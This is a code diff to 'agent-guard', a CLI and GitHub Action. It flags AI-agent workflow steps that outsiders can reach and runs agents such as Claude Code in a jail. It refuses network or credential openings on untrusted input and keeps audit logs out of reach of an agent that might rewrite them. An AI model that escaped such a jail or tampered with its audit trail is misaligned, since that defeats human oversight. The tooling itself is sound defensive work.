+    text = import_node_fs23.default.readFileSync(file, "utf8");
+  } catch (err) {
+    return untrusted(event, `the event payload ${show(file)} cannot be read (${err.code ?? "error"}), so who wrote the input cannot be checked.`);
+  }
+  let payload;
+  try {
+    payload = JSON.parse(text);
+  } catch {
+    return untrusted(event, `the event payload ${show(file)} is not valid JSON, so who wrote the input cannot be checked.`);
+  }
+  return decideTrust(event, payload);
+}
+function untrustedRefusal(decision, opts, allowOnUntrusted, override) {
+  if (!decision.untrusted || allowOnUntrusted) return void 0;
+  const opened = [];
+  if (opts.allowHosts.length) opened.push(`allow-hosts (${opts.allowHosts.map((h) => `${h.host}:${h.port}`).join(", ")})`);
+  if (opts.passEnv.length) opened.push(`pass-env (${opts.passEnv.join(", ")})`);
+  if (!opened.length) return void 0;
+  return `refused: the input is untrusted (${decision.reason.replace(/\.$/, "")}), and ${opened.join(" and ")} would hand an agent hijacked by that input a way out or a credential; remove them, or set ${override} if you accept that`;
+}
+
+// src/action/run.ts
 init_workflowCommands();
 
 // src/guard/wrap.ts
@@ -26516,9 +25850,6 @@ init_options();
 var WRAPPER_MARKER = "written by `agent-guard wrap claude`";
 var CLAUDE_PROVIDERS = ["anthropic", "bedrock", "vertex"];
 var WRAP_SYNOPSIS = "usage: agent-guard wrap claude [--install DIR] [--claude PATH] [--allow-on-untrusted] [-- GUARD_OPTION...]";
-var WRAP_USAGE = `${WRAP_SYNOPSIS}
-  prints a wrapper that runs Claude Code under \`agent-guard run\` (or installs it as DIR/claude);
-  GUARD_OPTIONs are \`agent-guard run\` options (default --provider anthropic)`;
 function shellQuote(s) {
   return `'${s.replace(/'/g, `'\\''`)}'`;
 }
@@ -26576,7 +25907,6 @@ function findRealClaude(pathEnv, exclude) {
 }
 function parseWrapArgs(args) {
   const [agent, ...rest] = args;
-  if (agent === "--help" || agent === "-h") throw new GuardError("usage", WRAP_USAGE);
   if (agent !== "claude") throw new GuardError("usage", `wrap supports claude only${agent ? `, not '${agent}'` : ""}. ${WRAP_SYNOPSIS}`);
   const out = { allowOnUntrusted: false, guardArgs: [] };
   for (let i = 0; i < rest.length; i++) {
@@ -26602,9 +25932,6 @@ function parseWrapArgs(args) {
       case "--allow-on-untrusted":
         out.allowOnUntrusted = true;
         break;
-      case "--help":
-      case "-h":
-        throw new GuardError("usage", WRAP_USAGE);
       default:
         throw new GuardError("usage", `unknown option '${arg}' (guard options go after --). ${WRAP_SYNOPSIS}`);
     }
@@ -26701,6 +26028,10 @@ function guardArgsFromInputs(ctx, defaultProviders = []) {
   args.push(...grantArgsFromInputs(ctx));
   const defer = getInput(ctx, "defer");
   if (defer) args.push("--defer", defer);
+  const timeout = getPositiveIntInput(ctx, "timeout");
+  if (timeout !== void 0) args.push("--timeout", String(timeout));
+  const audit = auditFile(ctx);
+  if (audit) args.push("--audit", audit);
   return args;
 }
 function grantArgsFromInputs(ctx) {
@@ -26717,6 +26048,23 @@ function guardEnv(ctx) {
   const token = getInput(ctx, "github-token");
   if (token) env.GITHUB_TOKEN = token;
   return env;
+}
+var DEFAULT_AUDIT_NAME = "agent-guard-audit.jsonl";
+function auditFile(ctx) {
+  const input = getInput(ctx, "audit");
+  if (input === "false") return void 0;
+  const given = input === "true" ? "" : input;
+  const temp = ctx.env.RUNNER_TEMP;
+  if (!given && !temp) return void 0;
+  const file = import_node_path16.default.resolve(ctx.cwd, given || import_node_path16.default.join(temp, DEFAULT_AUDIT_NAME));
+  for (const workspace2 of [ctx.cwd, ctx.env.GITHUB_WORKSPACE]) {
+    if (!workspace2) continue;
+    const rel = import_node_path16.default.relative(import_node_path16.default.resolve(workspace2), file);
+    if (!rel.startsWith("..") && !import_node_path16.default.isAbsolute(rel)) {
+      throw new InputError(`input 'audit': ${file} is inside the workspace, where the agent could rewrite it; name a file under $RUNNER_TEMP, or leave it empty`);
+    }
+  }
+  return file;
 }
 function trustSummary(decision) {
   const verdict = decision.untrusted ? "untrusted (outsider-controlled)" : "trusted";
@@ -26767,7 +26115,11 @@ async function actionRun(ctx) {
 `);
     if (grants) ctx.stderr.write(describeGrantOutcome(grants, opts.deferFile));
     appendSummary(ctx, audit.stepSummaryMarkdown(exitCode));
-    setOutputs(ctx, { "exit-code": String(exitCode), ...grants?.deferSha256 ? { "defer-sha256": grants.deferSha256 } : {} });
+    setOutputs(ctx, {
+      "exit-code": String(exitCode),
+      ...grants?.deferSha256 ? { "defer-sha256": grants.deferSha256 } : {},
+      ...opts.auditFile ? { "audit-file": opts.auditFile } : {}
+    });
     return exitCode;
   } catch (err) {
     return fail3(ctx, guardFailure(err));
@@ -26790,7 +26142,8 @@ function actionWrap(ctx, self) {
     const target = installWrapper(import_node_path16.default.join(temp, "agent-guard"), prepared.text);
     ctx.stderr.write(`agent-guard: wrapper installed: ${target} runs ${prepared.spec.claude} under the guard
 `);
-    setOutputs(ctx, { "claude-wrapper": target });
+    const audit = prepared.options.auditFile;
+    setOutputs(ctx, { "claude-wrapper": target, ...audit ? { "audit-file": audit } : {} });
     appendSummary(ctx, `Claude Code wrapper: <code>${md(target)}</code> runs <code>${md(prepared.spec.claude)}</code> under the guard.
 `);
     return 0;
@@ -26900,71 +26253,12 @@ function serveShareIfWorker() {
 var import_node_fs27 = __toESM(require("node:fs"));
 init_types();
 
-// src/online/cache.ts
-var import_node_crypto9 = __toESM(require("node:crypto"));
+// src/online/prefetch.ts
 var import_node_fs25 = __toESM(require("node:fs"));
-var import_node_os7 = __toESM(require("node:os"));
 var import_node_path17 = __toESM(require("node:path"));
-function defaultCacheDir(env = process.env) {
-  if (env.AGENT_GUARD_CACHE_DIR) return import_node_path17.default.resolve(env.AGENT_GUARD_CACHE_DIR);
-  const base = env.XDG_CACHE_HOME ? import_node_path17.default.resolve(env.XDG_CACHE_HOME) : import_node_path17.default.join(import_node_os7.default.homedir(), ".cache");
-  return import_node_path17.default.join(base, "agent-guard");
-}
-var DiskCache = class {
-  /** `dir` null: a cache that remembers nothing (`--no-cache`). */
-  constructor(dir, warn = () => {
-  }) {
-    this.warn = warn;
-    this.dir = dir ? import_node_path17.default.join(dir, "v1") : null;
-  }
-  warn;
-  dir;
-  warned = false;
-  hits = 0;
-  writes = 0;
-  get enabled() {
-    return this.dir !== null;
-  }
-  get(space, key2) {
-    if (!this.dir) return void 0;
-    try {
-      const stored = JSON.parse(import_node_fs25.default.readFileSync(this.file(space, key2), "utf8"));
-      if (stored.key !== key2 || stored.value === void 0) return void 0;
-      this.hits++;
-      return stored.value;
-    } catch {
-      return void 0;
-    }
-  }
-  set(space, key2, value) {
-    if (!this.dir) return;
-    const file = this.file(space, key2);
-    const tmp = `${file}.${process.pid}.${import_node_crypto9.default.randomBytes(4).toString("hex")}.tmp`;
-    try {
-      import_node_fs25.default.mkdirSync(import_node_path17.default.dirname(file), { recursive: true });
-      import_node_fs25.default.writeFileSync(tmp, JSON.stringify({ key: key2, value }));
-      import_node_fs25.default.renameSync(tmp, file);
-      this.writes++;
-    } catch (err) {
-      try {
-        import_node_fs25.default.rmSync(tmp, { force: true });
-      } catch {
-      }
-      if (!this.warned) {
-        this.warned = true;
-        this.warn(`cache disabled: cannot write ${this.dir} (${err.code ?? err.message})`);
-      }
-      this.dir = null;
-    }
-  }
-  file(space, key2) {
-    const hash = import_node_crypto9.default.createHash("sha256").update(key2).digest("hex");
-    return import_node_path17.default.join(this.dir, space, hash.slice(0, 2), `${hash}.json`);
-  }
-};
 
 // src/online/github.ts
-var import_rest = __toESM(require_dist_node12());
+var import_core = __toESM(require_dist_node8());
 var GitHubError2 = class extends Error {
   constructor(kind, message, status) {
     super(message);
@@ -26985,7 +26279,7 @@ var GitHubClient = class {
     this.options = options;
     this.baseUrl = (options.baseUrl || DEFAULT_API_URL).replace(/\/+$/, "");
     this.authenticated = !!options.token;
-    this.octokit = new import_rest.Octokit({ auth: options.token || void 0, baseUrl: this.baseUrl, userAgent: options.userAgent ?? "agent-guard", log: SILENT });
+    this.octokit = new import_core.Octokit({ auth: options.token || void 0, baseUrl: this.baseUrl, userAgent: options.userAgent ?? "agent-guard", log: SILENT });
     this.gate = new Semaphore(Math.max(1, options.concurrency ?? 8));
     this.perPage = Math.min(100, Math.max(1, options.perPage ?? 100));
     this.log = options.log ?? (() => {
@@ -27328,8 +26622,6 @@ var Semaphore = class {
 };
 
 // src/online/prefetch.ts
-var import_node_fs26 = __toESM(require("node:fs"));
-var import_node_path18 = __toESM(require("node:path"));
 var DEFAULT_MAX_DEPTH = 4;
 var RemoteStore = class {
   constructor(client) {
@@ -27388,7 +26680,7 @@ async function prefetchRemote(roots, options) {
   const walkLocal = async (u, into) => {
     const rel = normalise(u.uses.replace(/@.*$/, ""));
     if (rel === null) return;
-    const candidates = u.kind === "workflow" ? [rel] : ["action.yml", "action.yaml"].map((n) => import_node_path18.default.posix.join(rel, n));
+    const candidates = u.kind === "workflow" ? [rel] : ["action.yml", "action.yaml"].map((n) => import_node_path17.default.posix.join(rel, n));
     for (const file of candidates) {
       if (walkedLocal.has(file)) return;
       const text = await options.readLocal(file).catch(() => null);
@@ -27484,7 +26776,7 @@ function usesIn(kind, text, display, remote) {
   return out;
 }
 function normalise(rel) {
-  const n = import_node_path18.default.posix.normalize(rel.replace(/\\/g, "/")).replace(/^\.\/+/, "").replace(/\/+$/, "");
+  const n = import_node_path17.default.posix.normalize(rel.replace(/\\/g, "/")).replace(/^\.\/+/, "").replace(/\/+$/, "");
   if (!n || n === "." || n.startsWith("../") || n === ".." || n.startsWith("/")) return null;
   return n;
 }
@@ -27492,20 +26784,20 @@ async function prefetchPaths(paths, store, maxDepth) {
   const results = [];
   for (const set of discover(paths, [])) {
     const readLocal = async (rel) => {
-      const abs = import_node_path18.default.resolve(set.root, rel);
-      const inside = import_node_path18.default.relative(set.root, abs);
-      if (inside.startsWith("..") || import_node_path18.default.isAbsolute(inside)) return null;
+      const abs = import_node_path17.default.resolve(set.root, rel);
+      const inside = import_node_path17.default.relative(set.root, abs);
+      if (inside.startsWith("..") || import_node_path17.default.isAbsolute(inside)) return null;
       try {
-        const stat = import_node_fs26.default.statSync(abs);
-        return stat.isFile() && stat.size <= MAX_FILE_BYTES ? import_node_fs26.default.readFileSync(abs, "utf8") : null;
+        const stat = import_node_fs25.default.statSync(abs);
+        return stat.isFile() && stat.size <= MAX_FILE_BYTES ? import_node_fs25.default.readFileSync(abs, "utf8") : null;
       } catch {
         return null;
       }
     };
     const roots = [];
     for (const abs of set.files) {
-      const text = await readLocal(import_node_path18.default.relative(set.root, abs));
-      if (text !== null) roots.push({ path: import_node_path18.default.relative(set.root, abs).split(import_node_path18.default.sep).join("/"), text });
+      const text = await readLocal(import_node_path17.default.relative(set.root, abs));
+      if (text !== null) roots.push({ path: import_node_path17.default.relative(set.root, abs).split(import_node_path17.default.sep).join("/"), text });
     }
     results.push(await prefetchRemote(roots, { store, maxDepth, readLocal }));
   }
@@ -27516,6 +26808,221 @@ async function prefetchPaths(paths, store, maxDepth) {
     failed: results.flatMap((r) => r.failed)
   };
 }
+
+// src/help.ts
+init_common();
+var WIDTH = 100;
+var SEVERITY_CHOICES = "critical|high|medium|low|none";
+var ONLINE_OPTIONS = [
+  ["--no-cache", "neither read nor write the cache (~/.cache/agent-guard)"],
+  ["--on-rate-limit wait|stop", "at the API rate limit: wait for the reset or stop (default: stop in CI, wait on a terminal)"],
+  ["--max-wait SECONDS", "longest total wait for rate limits (default 900)"],
+  ["--max-depth N", `remote hops followed (default ${DEFAULT_MAX_DEPTH})`]
+];
+var GITHUB_ENV = "environment: GITHUB_TOKEN or GH_TOKEN, GITHUB_API_URL (GitHub Enterprise Server), AGENT_GUARD_CACHE_DIR";
+var HELP = {
+  lint: {
+    usage: ["agent-guard lint [PATH...] [options]"],
+    about: "Find the AI-agent steps in GitHub Actions workflows that outsider-written text can reach. PATH is a repository root, a .github folder, a workflows folder or workflow files (default: .).",
+    options: [
+      ["--format text|json|sarif|github", "report format (default text)"],
+      ["--fail-on " + SEVERITY_CHOICES, "exit 1 when a finding is at or above this severity (default high)"],
+      ["--config FILE", "config file (default .github/agent-guard.yml when present)"],
+      ["--output FILE, -o FILE", "write the report to FILE instead of standard output"],
+      ["--baseline FILE", "report only findings not recorded in FILE"],
+      ["--write-baseline FILE", "record every current finding in FILE (and exit 0)"],
+      ["--online", "follow remote actions and reusable workflows through the GitHub API"],
+      ...ONLINE_OPTIONS.map(([flag, text]) => [flag, `with --online: ${text}`])
+    ],
+    notes: [
+      "exit: 0 no finding at or above --fail-on (or nothing to lint), 1 such findings, 2 bad usage, a bad config or baseline, or no workflow could be read",
+      GITHUB_ENV
+    ]
+  },
+  scan: {
+    usage: ["agent-guard scan --org ORG [options]"],
+    about: "Lint the workflows of every repository of a GitHub organisation (or user), following remote actions and reusable workflows, and report findings per repository ranked by severity.",
+    options: [
+      ["--org ORG", "organisation or user to scan (required)"],
+      ["--repo-filter GLOB", "only repositories whose name matches (repeatable; e.g. 'api-*')"],
+      ["--include-archived", "also scan archived repositories"],
+      ["--include-forks", "also scan forks"],
+      ["--format text|json|sarif|markdown", "report format (default text; markdown is ready to paste into an issue)"],
+      ["--output FILE, -o FILE", "write the report to FILE instead of standard output"],
+      ["--fail-on " + SEVERITY_CHOICES, "exit 1 when a finding is at or above this severity (default none)"],
+      ["--config FILE", "config applied to every repository (default: each repository's own)"],
+      ...ONLINE_OPTIONS
+    ],
+    notes: ["exit: 0 done, 1 findings at or above --fail-on, 2 bad usage or the organisation could not be listed", GITHUB_ENV]
+  },
+  run: {
+    usage: ["agent-guard run [options] -- CMD [ARG...]"],
+    about: "Run an agent command in a jail with no secrets, no network but its model API (through a proxy that holds the key) and nothing of the runner visible. Needs bubblewrap, and root or sudo.",
+    options: [
+      ["--provider NAME[=UPSTREAM_URL]", "a model provider the agent calls (repeatable): anthropic, openai, gemini, github-models, openrouter"],
+      ["--allow-host HOST[:PORT]", "let the agent reach HOST through the egress proxy, CONNECT only (repeatable)"],
+      ["--pass-env NAME", "pass variable NAME to the agent (repeatable; tokens, runner variables and loaders never pass)"],
+      ["--workspace rw|ro", "the agent's access to the workspace (default rw)"],
+      ["--max-requests N", "most model API requests"],
+      ["--max-tokens N", "most model tokens (input + output)"],
+      ["--audit FILE", "write every model and egress request as JSON lines to FILE"],
+      ["--timeout SECONDS", "stop the agent after SECONDS (exit 124)"],
+      ["--allow-provider-fetch", "let provider-side tools that fetch URLs through (web fetch and search, MCP servers, URL sources)"],
+      ["--memory SIZE|none", "most memory the jail may use, tmpfs files included (default 75% of RAM; e.g. 4g, 512m)"],
+      ["--pids N|none", "most processes and threads in the jail (default 4096)"],
+      ["--tmpfs-size SIZE", "size of each folder the agent can write outside the workspace: /tmp, /var/tmp, its HOME (default 2g)"],
+      ["--grant GRANT", "let the agent ask the guard for one narrow GitHub write (repeatable): comment, label=A,B, review, pull-request[=GLOB,...], update-comment"],
+      ["--github-token-env NAME", "the variable holding the token grants are performed with (default GITHUB_TOKEN)"],
+      ["--defer FILE", "record the checked grant requests in FILE instead of performing them (see apply)"],
+      ["--allow-links", "keep links and images to hosts outside GitHub live in text the agent publishes"]
+    ],
+    notes: [
+      "exit: the agent's exit code; 122 when --max-requests or --max-tokens ran out (the agent was stopped); 124 on --timeout; 125 when the guard could not set up a layer (one line says which and why)"
+    ]
+  },
+  apply: {
+    usage: ["agent-guard apply FILE --grant GRANT... [options]"],
+    about: "Perform the GitHub writes an `agent-guard run --defer FILE` recorded, after checking every request again against the grants given here (never the ones in the file). Run it in a later job that holds the token; the agent job needs none.",
+    options: [
+      ["--grant GRANT", "what the requests may do (repeatable; as for run)"],
+      ["--sha256 HEX", "refuse the file unless its SHA-256 is HEX (the run's defer-sha256)"],
+      ["--github-token-env NAME", "the variable holding the token (default GITHUB_TOKEN)"],
+      ["--allow-links", "keep links and images to hosts outside GitHub live"],
+      ["--audit FILE", "write every request, performed or refused, as JSON lines to FILE"]
+    ],
+    notes: ["exit: 0 every request performed, 125 the file or a request was refused (nothing is written then) or bad usage"]
+  },
+  doctor: {
+    usage: ["agent-guard doctor [--json]"],
+    about: "Say which isolation layers this machine supports, and whether `agent-guard run` can run here.",
+    options: [["--json", "the report as JSON"]],
+    notes: ["exit: 0 the guard can run here, 1 it cannot, 125 bad usage"]
+  },
+  wrap: {
+    usage: ["agent-guard wrap claude [--install DIR] [--claude PATH] [--allow-on-untrusted] [-- GUARD_OPTION...]"],
+    about: "Write a stand-in for Claude Code that runs the real one under `agent-guard run`, for actions that start Claude Code themselves (claude-code-action: give it to path_to_claude_code_executable). Without --install, print it.",
+    options: [
+      ["--install DIR", "install the wrapper as DIR/claude (outside the workspace) and print its path"],
+      ["--claude PATH", "the real Claude Code executable (default: claude on PATH)"],
+      ["--allow-on-untrusted", "keep --allow-host and --pass-env when the triggering input is outsider-controlled"],
+      ["-- GUARD_OPTION...", "`agent-guard run` options for the wrapper (default --provider anthropic)"]
+    ],
+    notes: ["exit: 0 written, 125 bad usage"]
+  },
+  action: {
+    usage: ["agent-guard action lint|run|wrap|apply"],
+    about: "The GitHub Action's entry points (action.yml runs them): each reads its inputs from INPUT_* variables, writes outputs to GITHUB_OUTPUT and the job summary to GITHUB_STEP_SUMMARY. See README.md, Inputs.",
+    options: [],
+    notes: ["exit: as lint, run or wrap; 2 on a bad input"]
+  },
+  version: {
+    usage: ["agent-guard version"],
+    about: "Print the version.",
+    options: []
+  }
+};
+var GENERAL_HELP = {
+  usage: ["agent-guard COMMAND [options]", "agent-guard COMMAND --help"],
+  about: "Find AI-agent steps outsiders can reach (lint, scan), and run agents in a jail (run, wrap).",
+  options: [
+    ["lint [PATH...]", "find AI-agent steps outsiders can reach (default PATH: .)"],
+    ["scan --org ORG", "lint every repository of an organisation online"],
+    ["run [options] -- CMD", "run an agent in the jail"],
+    ["apply FILE --grant GRANT...", "perform what a run recorded with --defer, checked again against these grants"],
+    ["doctor", "what isolation this machine supports"],
+    ["wrap claude", "a Claude Code wrapper that runs it under the guard"],
+    ["action lint|run|wrap", "the GitHub Action's entry points"],
+    ["version", "print the version"]
+  ]
+};
+function formatHelp(help, heading = "options") {
+  const out = help.usage.map((u, i) => `${i === 0 ? "usage:" : "      "} ${u}`);
+  out.push("", ...wrap(help.about, WIDTH), "");
+  if (help.options.length) {
+    const width = Math.min(32, Math.max(...help.options.map(([flag]) => flag.length)));
+    out.push(`${heading}:`);
+    const hang = " ".repeat(width + 4);
+    for (const [flag, text] of help.options) {
+      const lines = wrap(text, WIDTH - hang.length).map((l) => hang + l);
+      if (flag.length > width) out.push(`  ${flag}`, ...lines);
+      else out.push(`  ${flag.padEnd(width)}  ${lines[0].trimStart()}`, ...lines.slice(1));
+    }
+    out.push("");
+  }
+  if (help.notes?.length) out.push(...help.notes.flatMap((n) => wrap(n, WIDTH)), "");
+  return out.join("\n");
+}
+function helpFor(command2) {
+  const known = command2 !== void 0 ? HELP[command2] : void 0;
+  return known ? formatHelp(known) : formatHelp(GENERAL_HELP, "commands");
+}
+function asksForHelp(args) {
+  const end = args.indexOf("--");
+  return (end < 0 ? args : args.slice(0, end)).some((a) => a === "--help" || a === "-h");
+}
+
+// src/online/cache.ts
+var import_node_crypto9 = __toESM(require("node:crypto"));
+var import_node_fs26 = __toESM(require("node:fs"));
+var import_node_os7 = __toESM(require("node:os"));
+var import_node_path18 = __toESM(require("node:path"));
+function defaultCacheDir(env = process.env) {
+  if (env.AGENT_GUARD_CACHE_DIR) return import_node_path18.default.resolve(env.AGENT_GUARD_CACHE_DIR);
+  const base = env.XDG_CACHE_HOME ? import_node_path18.default.resolve(env.XDG_CACHE_HOME) : import_node_path18.default.join(import_node_os7.default.homedir(), ".cache");
+  return import_node_path18.default.join(base, "agent-guard");
+}
+var DiskCache = class {
+  /** `dir` null: a cache that remembers nothing (`--no-cache`). */
+  constructor(dir, warn = () => {
+  }) {
+    this.warn = warn;
+    this.dir = dir ? import_node_path18.default.join(dir, "v1") : null;
+  }
+  warn;
+  dir;
+  warned = false;
+  hits = 0;
+  writes = 0;
+  get enabled() {
+    return this.dir !== null;
+  }
+  get(space, key2) {
+    if (!this.dir) return void 0;
+    try {
+      const stored = JSON.parse(import_node_fs26.default.readFileSync(this.file(space, key2), "utf8"));
+      if (stored.key !== key2 || stored.value === void 0) return void 0;
+      this.hits++;
+      return stored.value;
+    } catch {
+      return void 0;
+    }
+  }
+  set(space, key2, value) {
+    if (!this.dir) return;
+    const file = this.file(space, key2);
+    const tmp = `${file}.${process.pid}.${import_node_crypto9.default.randomBytes(4).toString("hex")}.tmp`;
+    try {
+      import_node_fs26.default.mkdirSync(import_node_path18.default.dirname(file), { recursive: true });
+      import_node_fs26.default.writeFileSync(tmp, JSON.stringify({ key: key2, value }));
+      import_node_fs26.default.renameSync(tmp, file);
+      this.writes++;
+    } catch (err) {
+      try {
+        import_node_fs26.default.rmSync(tmp, { force: true });
+      } catch {
+      }
+      if (!this.warned) {
+        this.warned = true;
+        this.warn(`cache disabled: cannot write ${this.dir} (${err.code ?? err.message})`);
+      }
+      this.dir = null;
+    }
+  }
+  file(space, key2) {
+    const hash = import_node_crypto9.default.createHash("sha256").update(key2).digest("hex");
+    return import_node_path18.default.join(this.dir, space, hash.slice(0, 2), `${hash}.json`);
+  }
+};
 
 // src/online/report.ts
 init_types();
@@ -27948,26 +27455,6 @@ async function prefetchForLint(paths, flags, version, io = PROCESS_IO) {
 `);
   return result.resolver;
 }
-var SCAN_USAGE = `usage: agent-guard scan --org ORG [options]
-
-Lint the workflows of every repository of a GitHub organisation (or user), following remote actions
-and reusable workflows, and report findings per repository ranked by severity.
-
-  --org ORG               organisation or user to scan (required)
-  --repo-filter GLOB      only repositories whose name matches (repeatable; e.g. 'api-*')
-  --include-archived      also scan archived repositories
-  --include-forks         also scan forks
-  --format text|json|sarif|markdown   report format (default text; markdown is ready to paste into an issue)
-  --output FILE           write the report to FILE instead of standard output
-  --fail-on critical|high|medium|low|none   exit 1 when a finding is at or above this (default none)
-  --config FILE           agent-guard config applied to every repository
-  --no-cache              neither read nor write the cache (~/.cache/agent-guard)
-  --on-rate-limit wait|stop   on the API rate limit: wait for the reset or stop (default: stop in CI, wait on a terminal)
-  --max-wait SECONDS      longest total wait for rate limits (default 900)
-  --max-depth N           remote hops followed from a repository (default ${DEFAULT_MAX_DEPTH})
-
-Environment: GITHUB_TOKEN or GH_TOKEN (a token that can read the repositories), GITHUB_API_URL
-(GitHub Enterprise Server), AGENT_GUARD_CACHE_DIR.`;
 function parseScanArgs(args) {
   const out = { repoFilter: [], includeArchived: false, includeForks: false, format: "text", failOn: "none" };
   for (let i = 0; i < args.length; i++) {
@@ -27985,9 +27472,13 @@ function parseScanArgs(args) {
         out.org = value();
         if (!/^[A-Za-z0-9](?:[A-Za-z0-9-]{0,38})$/.test(out.org)) throw new OnlineUsageError(`'${out.org}' is not an organisation or user name`);
         break;
-      case "--repo-filter":
-        out.repoFilter.push(value());
+      case "--repo-filter": {
+        const glob = value();
+        const problem = globProblem(glob);
+        if (problem) throw new OnlineUsageError(`--repo-filter: ${problem}`);
+        out.repoFilter.push(glob);
         break;
+      }
       case "--include-archived":
         out.includeArchived = true;
         break;
@@ -28035,8 +27526,7 @@ async function scanMain(rawArgs, version, io = PROCESS_IO) {
   try {
     args = parseScanArgs(rawArgs);
     if (args.help) {
-      io.stdout.write(`${SCAN_USAGE}
-`);
+      io.stdout.write(helpFor("scan"));
       return 0;
     }
     if (!args.org) throw new OnlineUsageError("scan needs --org ORG (see agent-guard scan --help)");
@@ -28120,33 +27610,14 @@ function describeOutcome(outcome) {
 
 // src/cli.ts
 var VERSION = "0.1.0";
-var USAGE = `usage: agent-guard <command> [options]
-
-commands:
-  lint [PATH...]   find AI-agent steps outsiders can reach (default PATH: .)
-      --format text|json|sarif|github   output format (default text)
-      --fail-on critical|high|medium|low|none   exit 1 at or above this severity (default high)
-      --config FILE    config file (default .github/agent-guard.yml when present)
-      --output FILE    write the report to FILE instead of standard output
-      --baseline FILE  report only findings not recorded in FILE
-      --write-baseline FILE   record every current finding in FILE (and exit 0)
-      --online         follow remote actions and reusable workflows through the GitHub API
-                       (GITHUB_TOKEN or GH_TOKEN; GITHUB_API_URL; cached in ~/.cache/agent-guard)
-      --no-cache       with --online: neither read nor write the cache
-      --on-rate-limit wait|stop   with --online: at the API rate limit (default: stop in CI, wait on a terminal)
-      --max-wait SECONDS   with --online: total wait for rate limits (default 900)
-      --max-depth N        with --online: hops of remote uses: to follow (default 4)
-  scan --org ORG   lint every repository of an organisation online (see agent-guard scan --help)
-  run [options] -- CMD [ARG...]   run an agent in the jail (see agent-guard run --help)
-  apply FILE --grant GRANT...   perform what a run recorded with --defer, checked again against these grants
-  doctor           what isolation this machine supports
-  wrap claude [--install DIR]   a Claude Code wrapper that runs it under the guard
-  action lint|run|wrap   the GitHub Action's entry points (read INPUT_* variables)
-  version          print the version`;
 var UsageError = class extends Error {
 };
 async function main(argv) {
   const [command2, ...rest] = argv;
+  if (command2 !== void 0 && HELP[command2] && asksForHelp(rest)) {
+    process.stdout.write(helpFor(command2));
+    return 0;
+  }
   try {
     switch (command2) {
       case "lint":
@@ -28168,15 +27639,16 @@ async function main(argv) {
         process.stdout.write(`agent-guard ${VERSION}
 `);
         return 0;
-      case void 0:
       case "help":
       case "--help":
       case "-h":
-        process.stdout.write(`${USAGE}
-`);
-        return command2 ? 0 : 2;
+        process.stdout.write(helpFor(rest[0]));
+        return 0;
+      case void 0:
+        process.stderr.write(helpFor(void 0));
+        return 2;
       default:
-        throw new UsageError(`unknown command '${command2}'`);
+        throw new UsageError(`unknown command '${command2}' (agent-guard --help lists them)`);
     }
   } catch (err) {
     if (err instanceof UsageError || err instanceof ConfigError || err instanceof OnlineUsageError) {
@@ -28232,9 +27704,6 @@ function parseLintArgs(args) {
       case "--online":
         out.online = true;
         break;
-      case "--help":
-      case "-h":
-        throw new UsageError(USAGE);
       default:
         if (parseOnlineFlag(flag, value, out)) break;
         if (flag.startsWith("-") && flag !== "-") throw new UsageError(`unknown option '${flag}'`);
@@ -28248,27 +27717,30 @@ async function lintCommand(rawArgs) {
   if ((args.noCache || args.onRateLimit || args.maxWait || args.maxDepth) && !args.online) {
     throw new UsageError("--no-cache, --on-rate-limit, --max-wait and --max-depth go with --online");
   }
+  for (const given of args.paths) if (!import_node_fs28.default.existsSync(given)) throw new UsageError(`${given}: no such file or directory`);
   const configPath = args.config ?? defaultConfigPath(args.paths);
   const config = configPath ? readConfig(configPath) : void 0;
   const remote = args.online ? await prefetchForLint(args.paths, args, VERSION) : void 0;
   let result = remote ? lint({ paths: args.paths, config, remote }) : await lintInParallel({ paths: args.paths, config }, __filename);
   const all = result.findings;
   if (args.baseline) {
-    const outcome = applyBaseline(all, readBaseline(args.baseline), process.cwd());
+    const outcome = applyBaseline(all, readBaseline(args.baseline), result.root ?? process.cwd());
     process.stderr.write(`agent-guard: ${baselineNote(args.baseline, outcome)}
 `);
     result = { ...result, findings: outcome.fresh };
   }
   if (args.writeBaseline) {
-    writeBaseline(args.writeBaseline, createBaseline(all, process.cwd()));
+    writeBaseline(args.writeBaseline, createBaseline(all, result.root ?? process.cwd()));
     process.stderr.write(`agent-guard: wrote ${all.length} finding${all.length === 1 ? "" : "s"} to baseline ${args.writeBaseline}
 `);
   }
+  for (const note of result.notes ?? []) process.stderr.write(`agent-guard: ${note}
+`);
   const toStdout = !args.output;
   const report2 = formatReport(result, args.format, {
     color: toStdout && args.format === "text" && colorEnabled(process.stdout.isTTY, process.env),
     toolVersion: VERSION,
-    root: process.cwd()
+    root: result.root ?? process.cwd()
   });
   if (args.output) writeOutput(args.output, report2);
   else process.stdout.write(report2);
